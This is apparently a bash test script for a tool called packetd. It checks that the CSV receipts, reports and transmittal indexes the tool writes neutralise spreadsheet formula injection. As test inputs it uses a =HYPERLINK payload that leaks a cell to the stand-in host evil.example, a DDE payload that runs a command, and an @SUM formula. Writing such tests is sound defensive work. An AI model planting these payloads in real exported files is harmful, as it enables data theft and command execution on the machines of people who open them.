#!/bin/bash
# Every CSV packetd writes neutralises cells a spreadsheet would run as a
# formula (OWASP CSV injection): names starting with =, @ or - come from a
# society's batch.csv, and each kind of CSV — the batch receipt, the nightly
# report's CSV and the transmittal's index.csv — is read back with Python's
# csv module: the names carry a leading apostrophe and no cell starts with a
# formula character.
source "$(dirname "$0")/../lib.sh"
fresh_install
S="$PACKETD_TOP/samples"
DB="$WORK/spool/packetd.db"
P() { "$PACKETD" "$@"; }
q() { sqlite3 "$DB" "$1"; }
export PACKETD_NOW=2026-11-02T10:00:00+08:00

EVIL_EN='=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE_EN='-2+3+cmd|" /C calc"!A0'
python3 - "$S/batches/jiangsu-2026-11.zip" "$WORK/spool/drop/evil-2026-11.zip" "$EVIL_EN" "$DDE_EN" <<'PY'
import csv, io, sys, zipfile
src, dst, evil, dde = sys.argv[1:]
with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, 'w') as zout:
    for info in zin.infolist():
        data = zin.read(info.filename)
        if info.filename == 'batch.csv':
            rows = list(csv.reader(io.StringIO(data.decode('utf-8-sig'))))
            rows[1][1] = evil          # 孙丽's name_en
            rows[2][0] = '@SUM(1+1)'   # 马超's name_zh
            rows[3][1] = dde           # 朱红's name_en
            out = io.StringIO()
            csv.writer(out, lineterminator='\r\n').writerows(rows)
            data = ('\ufeff' + out.getvalue()).encode('utf-8')
        zout.writestr(info, data)
PY
touch -d '2026-11-01' "$WORK/spool/drop/evil-2026-11.zip"
P run --once >"$WORK/run.log" 2>&1
ok "run --once exits 0" test $? = 0

# cells FILE: every cell of a CSV file (BOM skipped), one a line, as Python's
# csv module reads them; "BAD n" last, n the cells starting with a formula
# character.
cells() {
	python3 - "$1" <<'PY'
import csv, io, sys, zipfile
path = sys.argv[1]
if path.endswith('.zip'):
    text = zipfile.ZipFile(path).read('index.csv').decode('utf-8-sig')
else:
    text = open(path, encoding='utf-8-sig', newline='').read()
rows = list(csv.reader(io.StringIO(text, newline='')))
for r in rows:
    for c in r:
        print(c.replace('\n', ' '))
print("BAD", sum(1 for r in rows for c in r if c[:1] in ('=', '+', '-', '@', '\t', '\r')))
PY
}

receipt="$WORK/spool/receipts/evil-2026-11.receipt.csv"
ok "receipt written" test -f "$receipt"
c=$(cells "$receipt")
ok "receipt: =HYPERLINK name read back with a leading apostrophe" grep -qxF "'$EVIL_EN" <<<"$c"
ok "receipt: DDE name read back with a leading apostrophe" grep -qxF "'$DDE_EN" <<<"$c"
ok "receipt: @SUM name read back with a leading apostrophe" grep -qxF "'@SUM(1+1)" <<<"$c"
ok "receipt: no cell starts with a formula character" grep -qx "BAD 0" <<<"$c"

P report nightly --date 2026-11-02 --out "$WORK/rep" >/dev/null 2>>"$WORK/run.log"
rep="$WORK/rep/report-2026-11-02.csv"
ok "report CSV written" test -f "$rep"
c=$(cells "$rep")
ok "report CSV: a name of the day's packets, neutralised" grep -q "^'@SUM(1+1)" <<<"$c"
ok "report CSV: no cell starts with a formula character" grep -qx "BAD 0" <<<"$c"

for a in $(q "SELECT number FROM applications WHERE state = 'complete'"); do
	P review "$a" --approve >/dev/null 2>>"$WORK/run.log"
done
out=$(P transmit --out "$WORK/tx" 2>>"$WORK/run.log")
zip=$(awk -F': ' '{print $1}' <<<"$out")
ok "transmittal written" test -f "$zip"
c=$(cells "$zip")
ok "index.csv: a neutralised name read back" grep -qxE "'(@SUM\(1\+1\)|=HYPERLINK.*|-2\+3\+cmd.*)" <<<"$c"
ok "index.csv: no cell starts with a formula character" grep -qx "BAD 0" <<<"$c"
echo "1..$tap_n"
